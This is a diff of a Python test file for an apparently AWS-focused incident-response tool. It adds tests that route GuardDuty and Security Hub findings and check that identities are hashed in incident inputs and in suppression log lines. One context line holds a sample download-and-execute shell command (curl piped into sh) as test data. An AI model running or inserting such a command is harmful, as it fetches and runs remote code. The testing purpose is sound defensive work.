@@ -13,6 +13,7 @@ import json
 import logging
 import subprocess
 import zlib
+from datetime import UTC, datetime
 
 import boto3
 import pytest
@@ -31,9 +32,11 @@ from irflow.codec import ENCODING, METADATA_ENCODING
 from irflow.devstack.demo import sample_access_key_finding, sample_finding
 from irflow.intake.listener import FindingListener
 from irflow.intake.router import route
+from irflow.models.asff import parse_asff
 from irflow.models.finding import parse_guardduty
-from irflow.models.incident import Status
-from irflow.visibility import identity_hash, redacted, shown_for_incident, shown_resource_id
+from irflow.models.incident import IncidentInput, Status
+from irflow.models.settings import IrflowSettings
+from irflow.visibility import identity_hash, redacted, shown_resource_id
 from tests.irflow.intake.listener_support import _findings_queue, _listen_until, _send
 from tests.support import BIN, another_connection, running_worker, wait_for
 from workflows import search_attributes as sa
@@ -48,6 +51,21 @@ COMMAND_LINE = "/bin/sh -c curl -s http://203.0.113.77/x.sh | sh"
 # --- the hash and the shown id ---
 
 
+def _incident_input(destination, opened_id: str, shown: str | None = None) -> IncidentInput:
+    """The workflow's input for a routed finding: as `submit` builds it (`shown`: the router's decision), or
+    as inputs written before `shown_resource_id` existed (None)."""
+    given = {} if shown is None else {"shown_resource_id": shown}
+    finding = parse_guardduty(sample_finding("i-0123456789abcdef0")).finding
+    return IncidentInput(
+        incident_id=opened_id,
+        playbook=destination.playbook,
+        finding=finding,
+        resource_id=destination.resource_id,
+        received_at=datetime(2026, 1, 1, tzinfo=UTC),
+        **given,
+    )
+
+
 def test_an_identity_is_shown_as_the_hash_the_router_builds_into_its_incident_key():
     event = sample_access_key_finding("alice.smith", "AKIAEXAMPLEALICE0001")
     destination = route(parse_guardduty(event).finding)
@@ -56,13 +74,51 @@ def test_an_identity_is_shown_as_the_hash_the_router_builds_into_its_incident_ke
         "-" + identity_hash("alice.smith")
     )
     incident_id = destination.incident_key + "-20260101T000000Z"
-    assert shown_for_incident(incident_id, "alice.smith") == identity_hash("alice.smith"), "the workflow agrees"
+    for shown in (destination.shown_id, None):  # the router's decision, handed in; an older input's, derived
+        assert _incident_input(destination, incident_id, shown).shown_resource_id == identity_hash("alice.smith"), (
+            "the workflow agrees"
+        )
     instance = route(parse_guardduty(sample_finding("i-0123456789abcdef0")).finding)
     assert not instance.personal and instance.shown_id == "i-0123456789abcdef0"
-    assert shown_for_incident(instance.incident_key + "-20260101T000000Z", "i-0123456789abcdef0") == (
-        "i-0123456789abcdef0"
-    )
+    for shown in (instance.shown_id, None):
+        assert _incident_input(instance, instance.incident_key + "-20260101T000000Z", shown).shown_resource_id == (
+            "i-0123456789abcdef0"
+        )
     assert shown_resource_id("", personal=True) == ""
+
+
+def _asff_role_finding(role_arn: str) -> dict:
+    """A Security Hub finding about an IAM role, named by its ARN (no user name, key or principal id)."""
+    return {
+        "SchemaVersion": "2018-10-08",
+        "Id": "arn:aws:securityhub:us-east-1:123456789012:finding/decoy-role-1",
+        "ProductArn": "arn:aws:securityhub:us-east-1::product/aws/guardduty",
+        "GeneratorId": "irflow-test",
+        "AwsAccountId": "123456789012",
+        "Types": ["Unusual Behaviors"],
+        "CreatedAt": "2026-01-05T10:00:00Z",
+        "UpdatedAt": "2026-01-05T10:05:00Z",
+        "Severity": {"Label": "LOW", "Normalized": 20},
+        "Title": "A decoy role was assumed",
+        "Description": "A decoy role was assumed.",
+        "Resources": [{"Type": "AwsIamRole", "Id": role_arn, "Partition": "aws", "Region": "us-east-1"}],
+        "RecordState": "ACTIVE",
+        "Workflow": {"Status": "NEW"},
+    }
+
+
+async def test_a_suppressed_role_finding_is_logged_with_the_resource_as_the_router_shows_it(caplog):
+    caplog.set_level(logging.INFO, logger="irflow.listener")
+    role_arn = "arn:aws:iam::123456789012:role/alice-smith-admin"
+    parsed = parse_asff(_asff_role_finding(role_arn))
+    settings = IrflowSettings(min_severity="HIGH", task_queue="unused")  # LOW: suppressed, nothing submitted
+    listener = FindingListener(None, settings, queue_urls=["unused"], sqs=object())  # type: ignore[arg-type]
+    assert await listener._deliver(parsed, datetime.now(UTC), "unused", "unused:1") is None
+    [line] = [record.getMessage() for record in caplog.records if record.getMessage().startswith("suppressed ")]
+    assert listener.stats.suppressed == 1
+    assert "alice-smith-admin" not in line and role_arn not in line, line
+    assert route(parsed.finding).shown_id == identity_hash(role_arn), "the router hashes a role's name"
+    assert identity_hash(role_arn) in line, "as the incident would show it"
 
 
 def test_redaction_hashes_every_identity_a_finding_names_and_drops_its_address():
